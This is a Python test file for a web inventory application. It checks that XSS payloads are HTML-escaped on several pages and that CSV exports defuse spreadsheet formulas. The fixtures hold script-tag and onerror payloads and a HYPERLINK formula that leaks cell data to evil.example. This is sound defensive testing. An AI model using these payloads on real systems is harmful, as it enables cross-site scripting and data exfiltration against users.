"""Hostile strings are shown as text, never run: HTML is escaped on every page, and cells a
spreadsheet would run as formulas are defused in exports."""

import csv
import io

import pytest

from ramparts.core import tokens, users
from ramparts.core.roles import Role
from ramparts.inventory import services

SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile(admin_user, unit_a):
    system = services.system_create(
        actor=admin_user, business_unit=unit_a, name=f"{SCRIPT} {IMG}", kind="server", description=FORMULA
    )
    formula_system = services.system_create(actor=admin_user, business_unit=unit_a, name=FORMULA, kind="server")
    account = users.user_create(
        actor=admin_user,
        username="mallory",
        password="Long-Enough-Passphrase-1",
        role="analyst",
        first_name=SCRIPT,
        last_name=FORMULA,
    )
    tokens.api_token_create(actor=admin_user, name=SCRIPT, scopes=["read"], expires_in_days=1)
    return system, formula_system, account


def _assert_escaped(html: str) -> None:
    assert SCRIPT not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "path",
    [
        "/inventory/systems/",
        "/inventory/systems/{ref}/",
        "/inventory/systems/{ref}/edit/",
        "/users/",
        "/users/mallory/",
        "/tokens/",
        "/audit/",
    ],
)
def test_pages_escape_hostile_strings(hostile, admin_user, client, path):
    system, _, _ = hostile
    client.force_login(admin_user)
    response = client.get(path.format(ref=system.ref))
    assert response.status_code == 200
    _assert_escaped(response.content.decode())


def test_api_returns_hostile_strings_as_json_text(hostile, admin_user, client):
    system, _, _ = hostile
    client.force_login(admin_user)
    response = client.get(f"/api/v1/inventory/systems/{system.ref}")
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["name"] == f"{SCRIPT} {IMG}"


@pytest.mark.parametrize("path", ["/inventory/systems/export.csv", "/api/v1/inventory/export/systems?format=csv"])
def test_csv_exports_defuse_formulas(hostile, admin_user, client, path):
    client.force_login(admin_user)
    response = client.get(path)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert cells, "empty export"
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), [c for c in cells if c[:1] in "=+@"]
    assert any(cell.endswith(FORMULA) for cell in cells)  # kept, but prefixed


def test_audit_csv_export_defuses_formulas(hostile, admin_user, client):
    client.force_login(admin_user)
    response = client.get("/audit/export.csv")
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_employee_home_escapes_too(make_user, client):
    user = make_user(Role.EMPLOYEE)
    user.first_name = SCRIPT
    user.save()
    client.force_login(user)
    html = client.get("/").content.decode()
    assert SCRIPT not in html
